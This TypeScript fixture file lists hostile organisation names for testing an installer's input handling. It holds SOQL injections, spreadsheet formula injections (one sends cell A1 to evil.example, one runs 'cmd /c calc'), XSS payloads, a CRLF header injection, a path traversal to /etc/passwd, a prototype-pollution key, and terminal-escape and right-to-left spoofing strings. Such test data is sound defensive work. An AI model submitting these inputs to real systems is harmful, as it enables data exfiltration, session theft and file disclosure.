/** What an installer may call its org, and what each would do to whoever takes it for more than a name. */
export const HOSTILE_NAMES: Readonly<Record<string, string>> = {
    'a condition of SOQL': "' OR Name != '",
    'the end of a SOQL literal': "\\' OR Id != null) LIMIT 1 --",
    'a pattern of LIKE': '100%_off',
    'a formula': '=HYPERLINK("http://evil.example/?"&A1,"Invoice")',
    'a formula that adds': "+1+cmd|'/c calc'!A0",
    'a formula that subtracts': '-2+3',
    'a formula with at sign': '@SUM(1+1)*cmd',
    'a formula behind a tab': '\t=1+1',
    'an image that fails': '<img src=x onerror="window.attacked=true">',
    'a script': '</script><script>window.attacked=true</script>',
    'an attribute': '" onmouseover="window.attacked=true',
    'a merge field': '{!$User.SessionId} ${process.env.HOME} {{constructor}}',
    'a header': 'Acme%0d%0aSet-Cookie:%20sid=evil',
    'a path': '../../../../etc/passwd',
    'a reference': '@{created.id}',
    'an object key': '__proto__',
    'text from right to left': 'شركة الاختبار',
    'an emoji': 'Rocket 🚀 & Söhne',
};

/** Characters that steer a terminal or turn the text around: they are taken out, the rest stays. */
export const STEERING_NAMES: Readonly<Record<string, string>> = {
    'Red \u001b[31mAlert\u001b]0;owned\u0007': 'Red [31mAlert]0;owned',
    'Invoice \u202Efdp.exe': 'Invoice fdp.exe',
};
